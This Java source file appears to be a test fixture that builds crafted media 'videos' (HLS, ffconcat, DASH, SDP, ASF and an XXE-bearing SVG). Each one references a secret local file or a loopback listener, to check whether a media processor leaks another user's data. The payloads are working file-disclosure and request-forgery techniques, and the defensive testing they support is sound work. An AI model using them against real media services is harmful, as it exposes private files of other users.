package dev.sluice.malicious;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

/**
 * Text files that reference other files, with names of videos.
 *
 * @param secret a video of another user
 * @param port of a listener on the loopback interface
 */
record MaliciousPlaylists(Path secret, int port) {
    /** Control characters that make text appear binary. */
    private static final String BINARY = "\u0001\u0002";

    List<MaliciousFile> all() {
        String http = "http://127.0.0.1:" + port;
        return List.of(
                playlist("hls-absolute.mp4", hls("file://" + secret)),
                playlist("hls-relative.mkv", hls(String.valueOf(secret.getFileName()))),
                playlist("hls-http.mp4", hls(http + "/segment.ts")),
                text("hls-binary.ts", "not_a_video", hls(http + "/segment.ts") + "#" + BINARY),
                playlist("hls-master.mp4", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n" + http + "/inner.m3u8\n"),
                playlist("hls-subfile.avi", hls("subfile,,start,0,end,10000,,:" + secret)),
                playlist("hls-concat.mp4", hls("concat:" + http + "/header.m3u8|file://" + secret)),
                playlist("hls-data.mp4", hls("data:video/mp2t;base64,R0AAEAAAsA0AAcEAAAAB8AAqsQSy")),
                playlist(
                        "hls-crypto.mp4",
                        "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"" + http + "/key\"\n#EXTINF:1,\ncrypto:" + secret),
                playlist("concat.mp4", "ffconcat version 1.0\nfile '" + secret.getFileName() + "'\n"),
                playlist("concat-binary.mkv", "ffconcat version 1.0\nfile " + secret.getFileName() + "\n#" + BINARY),
                playlist(
                        "dash.mp4",
                        "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\"><Period>"
                                + "<AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\" bandwidth=\"1\">"
                                + "<BaseURL>" + http + "/dash.mp4</BaseURL></Representation></AdaptationSet>"
                                + "</Period></MPD>"),
                playlist(
                        "session.mov",
                        "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video " + port
                                + " RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"),
                playlist("reference.asf", "[Reference]\r\nRef1=" + http + "/video.asf\r\n"),
                text(
                        "drawing.mp4",
                        "not_a_video",
                        "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY leak SYSTEM \"file://" + secret + "\">]>"
                                + "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"" + http + "/a.png\"/>"
                                + "<text>&leak;</text></svg>"));
    }

    static String hls(String segment) {
        return "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n" + segment
                + "\n#EXT-X-ENDLIST\n";
    }

    private static MaliciousFile playlist(String name, String text) {
        return text(name, "playlist", text);
    }

    private static MaliciousFile text(String name, String ending, String text) {
        return new MaliciousFile(name, text.getBytes(StandardCharsets.UTF_8), ending);
    }
}
